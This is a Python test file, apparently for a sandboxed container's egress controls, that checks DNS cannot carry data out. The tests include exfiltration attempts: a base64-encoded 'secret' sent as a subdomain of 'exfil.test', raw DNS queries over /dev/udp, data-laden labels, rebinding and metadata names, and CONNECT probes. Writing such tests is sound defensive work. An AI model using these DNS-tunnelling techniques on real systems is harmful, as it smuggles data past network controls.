"""Names as a way out: through our resolver in one enforcement, through the proxy's in the other."""

from __future__ import annotations

import base64
from collections.abc import Callable

import dns.message
import pytest
from attack_support import FOUR, LAB, LAB6, SIX, Names, Walled

Lab = Callable[[], list[dict]]


def test_what_is_allowed_works(walled: Walled, lab: Lab) -> None:
    for name in ("web.attack.test", "four.attack.test", "six.attack.test", "mixed.attack.test"):
        assert "laboratory" in walled.fetch(name), name
    reached = {one["to"].removeprefix("::ffff:") for one in lab()}
    assert reached <= {LAB, LAB6, FOUR, SIX}
    assert {FOUR, SIX} < reached


def query(name: str, kind: str) -> str:
    """Return a command that asks the container's resolver and waits for an answer."""
    coded = base64.b64encode(dns.message.make_query(name, kind).to_wire()).decode()
    return f"(exec 3<>/dev/udp/127.0.0.1/53; echo {coded} | base64 -d >&3; timeout 5 head -c 12 <&3 | base64) &"


@pytest.mark.attack("DNS-1")
@pytest.mark.attack("OPS-1")
def test_a_name_that_is_not_allowed_is_told_to_nobody(walled: Walled, names: Names, lab: Lab) -> None:
    before = len(names.asked)
    secret = "c2VjcmV0.exfil.test"
    assert walled.sh(f"getent hosts {secret}")[0] == 2
    assert "laboratory" not in walled.fetch(secret)
    if walled.mode == "airlock":
        assert " 403 " in walled.tunnel(secret, 443)
    kinds = ("TXT", "NULL", "MX", "SRV", "HTTPS", "SVCB", "ANY")
    walled.sh("\n".join(query(name, kind) for name in (secret, "web.attack.test") for kind in kinds) + "\nwait")
    assert names.asked[before:] == []
    said = f"getent hosts {secret}"
    walled.until(lambda rows: any(row.get("name") == secret.lower() for row in rows), lambda: walled.sh(said))
    assert lab() == []


@pytest.mark.attack("DNS-2")
def test_an_allowed_zone_carries_no_data(walled: Walled, names: Names) -> None:
    before = len(names.asked)
    long = "a1b2c3d4e5f6g7h8i9j0k1l2m3n4o5p6q7r8s9t0" * 1 + "xyz"
    deep = ".".join("abcdefg")
    carriers = tuple(f"{one}.wild.attack.test" for one in (long, deep, f"{long[:38]}.{long[:38]}.{long[:38]}"))
    walled.sh("\n".join(f"getent hosts {name}" for name in carriers))
    if walled.mode == "airlock":
        walled.tunnels(carriers, 443)
    assert names.asked[before:] == []


@pytest.mark.attack("DNS-3")
def test_a_name_that_turns_round_leads_nowhere_else(walled: Walled, names: Names, lab: Lab) -> None:
    for _ in range(3):
        turning = ("rebind.attack.test", "private.attack.test", "metadata.attack.test", "host.attack.test")
        assert "laboratory" not in walled.fetches(turning)
    assert "rebind.attack.test" in names.asked
    assert lab() == []


@pytest.mark.attack("DNS-4")
@pytest.mark.attack("HTTP-12")
def test_other_resolvers_are_closed(walled: Walled, lab: Lab) -> None:
    ports = (53, 853, 5353, 5355)
    walled.raws([(address, port, b"x") for port in ports for address in (LAB, LAB6)])
    walled.sh("\n".join(f"echo x > /dev/udp/{one}/{port}" for port in ports for one in (LAB, LAB6, "224.0.0.251")))
    if walled.mode == "airlock":
        answers = walled.raws(
            [("127.0.0.1", 9421, f"CONNECT web.attack.test:{p} HTTP/1.1\r\n\r\n".encode()) for p in ports]
        )
        assert answers.count(" 403 ") == len(ports)
    assert lab() == []
